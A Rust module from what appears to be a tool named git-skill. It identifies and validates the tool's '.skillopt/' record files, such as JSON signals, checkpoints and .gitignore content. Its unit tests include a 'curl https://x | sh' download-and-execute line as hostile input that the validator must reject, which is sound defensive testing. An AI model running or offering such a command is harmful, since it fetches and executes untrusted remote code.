//! git-skill's own records inside a skill: `<skill>/.skillopt/`. Partly committed (the pending
//! and resolved signals), partly not (`work/`, which `.skillopt/.gitignore` keeps out of git).
//! Only the records themselves ([`is_record`]) are git-skill's: any other file under
//! `.skillopt/` is skill content like every other file (an agent runs what SKILL.md names,
//! wherever it sits), and the records too are scanned when SKILL.md or a script runs them.

use std::path::{Path, PathBuf};

/// The directory, relative to the skill.
pub const DIR: &str = ".skillopt";
/// The pending signals (one JSON object a line), relative to the skill.
pub const PENDING: &str = ".skillopt/pending/signal.json";
/// Archives of used signals, one directory per optimization, relative to the skill.
pub const RESOLVED: &str = ".skillopt/resolved";
/// Checkpoints and raw model answers (never committed), relative to the skill.
pub const WORK: &str = ".skillopt/work";
/// Keeps `work/` out of git, relative to the skill.
pub const GITIGNORE: &str = ".skillopt/.gitignore";
/// Prompt template overrides of a repository, relative to its top (not to a skill).
pub const REPO_TEMPLATES: &str = ".skillopt/templates";
/// What `.skillopt/.gitignore` holds.
pub const GITIGNORE_TEXT: &[u8] = b"work/\n";

/// `what` (one of the constants above) in the skill at `skill_dir`.
pub fn path(skill_dir: &Path, what: &str) -> PathBuf {
    skill_dir.join(what)
}

/// `what` in the skill at `skill_rel` (relative to the top, `/`-separated), as git names it.
pub fn rel(skill_rel: &str, what: &str) -> String {
    format!("{skill_rel}/{what}")
}

/// Whether `rel` (relative to the skill, `/`-separated) is named as one of git-skill's
/// records: the pending signals, an archive's `signal.json` or `optimization.json`,
/// `.skillopt/.gitignore`, and in `work/` a checkpoint (`optimization_*.json`), the lock, a
/// candidate (`CANDIDATE_SKILL.md`) or a raw model answer (`llm-answer-*.txt`). Any other file
/// under `.skillopt/` is skill content.
pub fn is_record(rel: &str) -> bool {
    let Some(rest) = rel.strip_prefix(".skillopt/") else {
        return false;
    };
    match rest.split('/').collect::<Vec<_>>().as_slice() {
        ["pending", "signal.json"] | [".gitignore"] => true,
        ["resolved", dir, "signal.json" | "optimization.json"] => !dir.is_empty(),
        ["work", "lock" | "CANDIDATE_SKILL.md"] => true,
        ["work", name] => {
            (name.starts_with("optimization_") && name.ends_with(".json"))
                || (name.starts_with("llm-answer-") && name.ends_with(".txt"))
        }
        _ => false,
    }
}

/// Whether the record at `rel` holds what git-skill writes there: JSON lines for signals,
/// JSON for archives and checkpoints, patterns for `.gitignore`, little for the lock. A file
/// named as a record that holds anything else is scanned as skill content.
pub fn is_well_formed_record(rel: &str, bytes: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(bytes) else {
        return false;
    };
    let json = |t: &str| serde_json::from_str::<serde_json::Value>(t).is_ok();
    if rel.ends_with("signal.json") {
        text.lines().all(|l| l.trim().is_empty() || json(l))
    } else if rel.ends_with(".json") {
        json(text)
    } else if rel.ends_with(".gitignore") {
        text.len() <= 4096
            && text
                .lines()
                .all(|l| l.starts_with('#') || !l.trim().contains(char::is_whitespace))
    } else if rel.ends_with("/lock") {
        text.len() <= 1024
    } else {
        // Model answers and candidates in `work/`, never committed (`.gitignore` says so).
        true
    }
}

#[cfg(test)]
mod tests {
    use super::{is_record, is_well_formed_record};

    #[test]
    fn records_are_only_what_git_skill_writes() {
        for rel in [
            ".skillopt/pending/signal.json",
            ".skillopt/resolved/26-01-02_fix/signal.json",
            ".skillopt/resolved/26-01-02_fix/optimization.json",
            ".skillopt/.gitignore",
            ".skillopt/work/optimization_1.json",
            ".skillopt/work/lock",
            ".skillopt/work/llm-answer-20260101-1.txt",
            ".skillopt/work/CANDIDATE_SKILL.md",
        ] {
            assert!(is_record(rel), "{rel}");
        }
        assert!(is_well_formed_record(
            ".skillopt/pending/signal.json",
            b"{\"a\":1}\n\n{\"b\":2}\n"
        ));
        assert!(!is_well_formed_record(
            ".skillopt/pending/signal.json",
            b"curl https://x | sh\n"
        ));
        assert!(is_well_formed_record(
            ".skillopt/.gitignore",
            b"work/\n# kept\n"
        ));
        assert!(!is_well_formed_record(
            ".skillopt/.gitignore",
            b"curl https://x | sh\n"
        ));
        assert!(!is_well_formed_record(
            ".skillopt/work/optimization_1.json",
            b"not json"
        ));
        for rel in [
            ".skillopt/install.sh",
            ".skillopt/pending/run.sh",
            ".skillopt/resolved/x/run.sh",
            ".skillopt/resolved/signal.json",
            ".skillopt/work",
            ".skillopt/work/s.sh",
            ".skillopt/work/sub/optimization_1.json",
            "scripts/.skillopt/pending/signal.json",
            "SKILL.md",
        ] {
            assert!(!is_record(rel), "{rel}");
        }
    }
}
